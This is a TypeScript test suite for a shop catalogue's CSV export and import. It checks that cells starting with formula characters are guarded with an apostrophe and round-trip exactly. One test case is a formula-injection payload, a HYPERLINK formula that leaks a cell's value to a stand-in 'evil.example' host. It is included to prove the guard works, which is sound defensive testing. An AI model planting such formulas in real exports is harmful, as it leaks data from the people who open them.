// The catalogue's CSV against spreadsheet formulas: a text cell that a spreadsheet would run
// (=, +, -, @, a tab or a carriage return first, also after spaces or line breaks) is exported with
// an apostrophe in front, and the import removes exactly one, so export then import gives back the
// same products whatever their text (fast-check), numbers stay numbers, and no exported cell
// starts a formula. Also the import's compact SKU set, against a Map.
import { Readable } from 'node:stream';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import * as z from 'zod/mini';
import { productWriteSchema, type ProductWrite } from '../../src/api/schemas/admin-products.ts';
import type { CategoryField } from '../../src/api/schemas/catalog.ts';
import { guardCsvCell, unguardCsvCell } from '../../src/lib/catalog-import.ts';
import { csvHeader, csvRows } from '../../src/server/api/services/catalog-csv.ts';
import { csvHeaderText, csvProductsText } from '../../src/server/api/services/catalog-export.ts';
import { readCatalogFile } from '../../src/server/api/services/catalog-file.ts';
import { checkCatalogItem } from '../../src/server/api/services/catalog-import.ts';
import { SkuLines } from '../../src/server/api/services/catalog-skus.ts';
import { normalise } from '../../src/server/api/services/product-write.ts';

const FORMULA_FIRST = /^[=+\-@\t\r]/;

describe('a cell a spreadsheet would run', () => {
  it('is guarded with one apostrophe, and only such a cell', () => {
    const cases: [string, string][] = [
      [
        '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")',
        `'=HYPERLINK("https://evil.example/?leak="&A2,"Click me")`,
      ],
      ['+84 912 345 678', "'+84 912 345 678"],
      ['-5', "'-5"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\t=1+1', "'\t=1+1"],
      ['\r\n=1+1', "'\r\n=1+1"],
      ['  =1+1', "'  =1+1"],
      ["'=1+1", "''=1+1"],
      ["''-2", "'''-2"],
      ["'hello", "'hello"],
      ['Nokia 3310 - classic', 'Nokia 3310 - classic'],
      ['', ''],
    ];
    for (const [text, cell] of cases) {
      expect(guardCsvCell(text), JSON.stringify(text)).toBe(cell);
      expect(unguardCsvCell(cell), JSON.stringify(cell)).toBe(text);
    }
  });

  it('comes back exactly as it was, whatever the text', () => {
    const piece = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', "'", 'a', '1', '"');
    fc.assert(
      fc.property(fc.string({ unit: fc.oneof(piece, fc.string()) }), (text) => {
        const cell = guardCsvCell(text);
        expect(unguardCsvCell(cell)).toBe(text);
        expect(FORMULA_FIRST.test(cell)).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });
});

// A category of each field type, as the database would hand it to the import.
const GADGETS: CategoryField[] = [
  { name: 'Note', type: 'String' },
  { name: 'Temperature', type: 'Number', unit: '°C' },
  { name: 'Wireless', type: 'Boolean' },
];
const FIELDS_OF = new Map([['gadgets', GADGETS]]);
const HEADER = csvHeader(GADGETS.map((field) => field.name));
const NUMBER_COLUMNS = new Set([
  'price',
  'salePrice',
  'stock',
  'fields.Temperature',
  'variation.price',
  'variation.salePrice',
  'variation.stock',
]);

/** Text as shoppers and managers type it, heavy on what spreadsheets read as formulas. */
const text = (maxLength: number) =>
  fc.string({
    unit: fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      ' ',
      "'",
      '"',
      ',',
      '(',
      'a',
      'Z',
      '7',
      'ệ',
      'Đ',
      '₫',
    ),
    maxLength,
  });
const nonEmpty = (maxLength: number) => text(maxLength).filter((t) => t.trim() !== '');
const money = fc.integer({ min: 0, max: 5_000_000_000 });

const variationsOf = (product: string) =>
  fc
    .array(
      fc.record({
        name: fc.option(nonEmpty(100), { nil: undefined }),
        price: money,
        sale: fc.option(fc.integer({ min: 0, max: 100 }), { nil: null }),
        stock: fc.integer({ min: 0, max: 1000 }),
        size: nonEmpty(30),
        color: fc.option(fc.tuple(nonEmpty(30), fc.constantFrom('#112233', '#ABCDEF')), {
          nil: null,
        }),
      }),
      { maxLength: 3 },
    )
    .map((list) =>
      list.map((v, i) => ({
        sku: `${product}-V${i}`,
        ...(v.name === undefined ? {} : { name: v.name }),
        price: v.price,
        salePrice: v.sale === null ? null : Math.floor((v.price * v.sale) / 100),
        stock: v.stock,
        isDefault: i === 0,
        // The CSV's order: a colour, then a size.
        attributes: [
          ...(v.color
            ? [{ type: 'Color' as const, value: { name: v.color[0], hex: v.color[1] } }]
            : []),
          { type: 'Size' as const, value: `${v.size}#${i}` },
        ],
      })),
    );

/** Products as the shop stores them: checked by the contract and normalised. */
const storedProduct = fc
  .record({
    sku: fc.stringMatching(/^[A-Z0-9][A-Z0-9._-]{0,12}$/),
    name: nonEmpty(200),
    description: text(400),
    shortDescription: text(100),
    brand: nonEmpty(60),
    price: money,
    sale: fc.option(fc.integer({ min: 0, max: 100 }), { nil: null }),
    stock: fc.integer({ min: 0, max: 1000 }),
    criteria: fc.array(
      nonEmpty(40).filter((c) => !c.includes('|')),
      { maxLength: 3 },
    ),
    featured: fc.boolean(),
    note: fc.option(nonEmpty(200), { nil: null }),
    temperature: fc.option(
      fc.oneof(
        fc.integer({ min: -50, max: 50 }),
        fc.double({ noNaN: true, noDefaultInfinity: true }),
      ),
      { nil: null },
    ),
    wireless: fc.option(fc.boolean(), { nil: null }),
    images: fc.subarray(['/images/placeholder.svg', 'https://cdn.example/a=1.png']),
  })
  .chain((p) => variationsOf(p.sku).map((variations) => ({ ...p, variations })))
  .map((p) => {
    const fields: Record<string, string | number | boolean> = {};
    if (p.note !== null) fields['Note'] = p.note;
    if (p.temperature !== null)
      fields['Temperature'] = Object.is(p.temperature, -0) ? 0 : p.temperature;
    if (p.wireless !== null) fields['Wireless'] = p.wireless;
    const parsed = z.safeParse(productWriteSchema, {
      sku: p.sku,
      name: p.name,
      description: p.description,
      shortDescription: p.shortDescription,
      category: 'gadgets',
      brand: p.brand,
      price: p.price,
      salePrice: p.sale === null ? null : Math.floor((p.price * p.sale) / 100),
      stock: p.stock,
      criteria: p.criteria,
      featured: p.featured,
      fields,
      images: p.images,
      variations: p.variations,
    });
    return parsed.success ? normalise(parsed.data) : null;
  })
  .filter((p): p is ProductWrite => p !== null);

/** The products read back from `csv` the way the import reads them. */
async function imported(csv: string): Promise<ProductWrite[]> {
  const read: ProductWrite[] = [];
  for await (const item of readCatalogFile('csv', Readable.from([Buffer.from(csv)]))) {
    if (item.kind === 'bad') throw new Error(item.problem.message);
    const checked = checkCatalogItem(item, FIELDS_OF);
    if (!checked.input) throw new Error(JSON.stringify(checked.problems));
    read.push(normalise(checked.input));
  }
  return read;
}

describe('the CSV export and import', () => {
  it('give back the same products, whatever their text', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(storedProduct, { selector: (p) => p.sku, maxLength: 4 }),
        async (list) => {
          const csv = csvHeaderText(HEADER) + csvProductsText(list, HEADER);
          expect(await imported(csv)).toEqual(list);
        },
      ),
      { numRuns: 300 },
    );
    // 300 round trips through the CSV writer and the streaming reader: a second or two alone, many
    // more on a busy machine.
  }, 60_000);

  it('write no cell that starts a formula: text is guarded, numbers are plain numbers', () => {
    fc.assert(
      fc.property(storedProduct, (product) => {
        for (const cells of csvRows(product, HEADER))
          cells.forEach((cell, i) => {
            if (!FORMULA_FIRST.test(cell)) return;
            // Only a number column's number may start with a minus: a spreadsheet reads it as a number.
            expect(NUMBER_COLUMNS.has(HEADER[i]!), `${HEADER[i]}: ${JSON.stringify(cell)}`).toBe(
              true,
            );
            expect(String(Number(cell))).toBe(cell);
          });
      }),
      { numRuns: 1000 },
    );
  });
});

describe('the SKUs an import has read', () => {
  it('answer as a Map would: the first line of a SKU seen again, nothing for a new one', () => {
    const sku = fc.oneof(
      fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/),
      fc.constantFrom('A', 'a', 'SKU-1', 'SKU-10', 'SKU-1 '),
    );
    fc.assert(
      fc.property(fc.array(sku, { maxLength: 3000 }), (skus) => {
        const set = new SkuLines();
        const model = new Map<string, number>();
        skus.forEach((s, line) => {
          expect(set.firstLine(s, line)).toBe(model.get(s));
          if (!model.has(s)) model.set(s, line);
        });
        expect(set.size).toBe(model.size);
      }),
      { numRuns: 50 },
    );
  });
});
